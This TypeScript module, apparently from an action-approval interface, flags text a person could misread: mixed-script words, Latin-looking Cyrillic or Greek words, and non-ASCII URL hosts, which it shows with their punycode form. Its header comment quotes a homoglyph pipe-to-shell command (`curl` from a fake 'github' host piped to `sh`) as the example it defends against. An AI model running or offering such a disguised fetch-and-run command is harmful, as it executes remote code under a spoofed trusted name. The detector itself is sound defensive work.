// Text that reads as something it is not: `curl https://gіthub.com/x | sh` with a Cyrillic і
// looks like GitHub and fetches from another host. An approver cannot see the difference, so
// the card says it in words: which word mixes which scripts, which letters are the odd ones
// (with their code points), and, for a URL whose host is not ASCII, the host it resolves to
// (punycode, what DNS is asked for) beside it.
//
// The idea to hold: a flag is about what a person would misread, not about non-ASCII text as
// such. Russian prose is one script and is not flagged; "gіthub" (Latin with one Cyrillic
// letter) is; so is a word written wholly in Cyrillic or Greek letters that all look Latin
// ("міт") inside otherwise ASCII text; and any non-ASCII host name in a URL. A flagged call
// may be approved once (after reading the flag) but never "always": a grant would remember a
// string whose look lies (approval-view.ts).
import { domainToASCII } from 'node:url';

/** One thing on the card a person could misread, in words. */
export interface TextFlag {
  kind: 'mixed_scripts' | 'lookalike_word' | 'non_ascii_host';
  /** The word or URL as written. */
  word: string;
  /** The warning, in words ("'gіthub.com' mixes Latin and Cyrillic letters (Cyrillic: і U+0456)"). */
  message: string;
}

/** Scripts named in warnings; a letter of any other script is named by its code point only. */
const SCRIPTS = [
  'Latin',
  'Cyrillic',
  'Greek',
  'Armenian',
  'Cherokee',
  'Coptic',
  'Georgian',
  'Hebrew',
  'Arabic',
  'Han',
  'Hiragana',
  'Katakana',
  'Hangul',
  'Thai',
  'Devanagari',
] as const;
const SCRIPT_PATTERNS = SCRIPTS.map((name) => [name, new RegExp(`^\\p{Script=${name}}$`, 'u')] as const);
/** Scripts that share words in ordinary writing (Japanese, Korean, and Latin beside them). */
const WRITTEN_TOGETHER: ReadonlySet<string> = new Set(['Latin', 'Han', 'Hiragana', 'Katakana', 'Hangul']);

/**
 * Cyrillic, Greek and Armenian letters that draw like Latin ones in common fonts. A word made
 * only of these, in text that is otherwise ASCII, reads as a Latin word.
 */
const LOOKALIKES = new Set([...'аеорсухіјѕԁԛԝһӏвкмнтАВЕКМНОРСТХІЈЅ', ...'οαρτυινκΑΒΕΖΗΙΚΜΝΟΡΤΥΧ', ...'օսհոց']);

/** A word as a person reads one: letters, digits, marks, and the dots and dashes of a host name. */
const WORD = /[\p{L}\p{M}\p{N}][\p{L}\p{M}\p{N}._-]*[\p{L}\p{M}\p{N}]|[\p{L}\p{M}\p{N}]/gu;
/** A URL with a scheme: up to the first character that cannot be in one unescaped. */
const URL_PATTERN = /\b[a-z][a-z0-9+.-]*:\/\/[^\s'"<>`()]+/giu;
/** How much of a flagged URL its warning quotes. */
const URL_SHOWN = 120;
/** Most flags a card lists: more say the same thing again. */
const MAX_FLAGS = 6;

/** What in `texts` a person could misread (each word or URL once, at most six). */
export function misleadingFlags(texts: readonly string[]): TextFlag[] {
  const flags: TextFlag[] = [];
  const seen = new Set<string>();
  const add = (flag: TextFlag): void => {
    if (seen.has(`${flag.kind}:${flag.word}`) || flags.length >= MAX_FLAGS) return;
    seen.add(`${flag.kind}:${flag.word}`);
    flags.push(flag);
  };
  for (const text of texts) {
    for (const url of text.match(URL_PATTERN) ?? []) {
      const flag = hostFlag(url);
      if (flag) add(flag);
    }
    const words = text.match(WORD) ?? [];
    const lookalikes: string[] = [];
    let otherNonAscii = false;
    for (const word of words) {
      const scripts = scriptsOf(word);
      if (scripts.size > 1 && ![...scripts.keys()].every((script) => WRITTEN_TOGETHER.has(script))) {
        add({ kind: 'mixed_scripts', word, message: mixedMessage(word, scripts) });
      } else if (
        scripts.size === 1 &&
        !scripts.has('Latin') &&
        [...word].every((char) => !isLetter(char) || LOOKALIKES.has(char))
      ) {
        lookalikes.push(word);
      } else if (!isAscii(word)) {
        otherNonAscii = true;
      }
    }
    // A Russian sentence of short words is Russian, not a disguise: only in otherwise ASCII text.
    if (!otherNonAscii) {
      for (const word of lookalikes) {
        const [script] = scriptsOf(word).keys();
        add({
          kind: 'lookalike_word',
          word,
          message: `'${word}' is written in ${script} letters that look Latin (${codePoints(word)})`,
        });
      }
    }
  }
  return flags;
}

/** The flag for a URL whose host is not ASCII: what it resolves as, beside it. */
function hostFlag(url: string): TextFlag | undefined {
  const host = /^[^:]+:\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^:/?#]*)/u.exec(url)?.[1];
  if (!host || isAscii(host)) return undefined;
  const ascii = domainToASCII(host);
  const resolves = ascii
    ? `→ host ${ascii}: the host name '${host}' is not ASCII; that is the name looked up`
    : `: the host name '${host}' is not ASCII and not a valid host name`;
  // The URL is in the arguments in full; the warning needs its host, and enough of the rest to find it.
  const shown = url.length > URL_SHOWN ? `${url.slice(0, URL_SHOWN)}…` : url;
  return { kind: 'non_ascii_host', word: url, message: `${shown} ${resolves}` };
}

function mixedMessage(word: string, scripts: Map<string, { count: number; letters: string[] }>): string {
  const names = [...scripts.keys()];
  const listed =
    names.length === 2 ? `${names[0]} and ${names[1]}` : `${names.slice(0, -1).join(', ')} and ${names.at(-1)}`;
  // Name the letters of the scripts other than the word's main one: those are the odd ones.
  const main = [...scripts.entries()].sort((a, b) => b[1].count - a[1].count)[0]![0];
  const odd = [...scripts.entries()]
    .filter(([name]) => name !== main)
    .map(([name, { letters }]) => `${name}: ${letters.map((char) => `${char} ${codePoint(char)}`).join(', ')}`);
  return `'${word}' mixes ${listed} letters (${odd.join('; ')})`;
}

/** The scripts of a word's letters: how many letters of each, and (a few of) which. */
function scriptsOf(word: string): Map<string, { count: number; letters: string[] }> {
  const scripts = new Map<string, { count: number; letters: string[] }>();
  for (const char of word) {
    if (!isLetter(char)) continue;
    // ASCII letters are Latin: the common case needs no script lookup.
    const name = /[A-Za-z]/.test(char)
      ? 'Latin'
      : (SCRIPT_PATTERNS.find(([, pattern]) => pattern.test(char))?.[0] ?? `the script of ${codePoint(char)}`);
    const known = scripts.get(name) ?? { count: 0, letters: [] };
    known.count += 1;
    // The odd letters are listed distinct: a few of each are enough.
    if (known.letters.length < 8 && !known.letters.includes(char)) known.letters.push(char);
    scripts.set(name, known);
  }
  return scripts;
}

function isAscii(text: string): boolean {
  for (let i = 0; i < text.length; i++) if (text.charCodeAt(i) > 0x7f) return false;
  return true;
}

function isLetter(char: string): boolean {
  return /^\p{L}$/u.test(char);
}

function codePoints(word: string): string {
  return [...new Set([...word].filter(isLetter))].map((char) => `${char} ${codePoint(char)}`).join(', ');
}

function codePoint(char: string): string {
  return `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
}
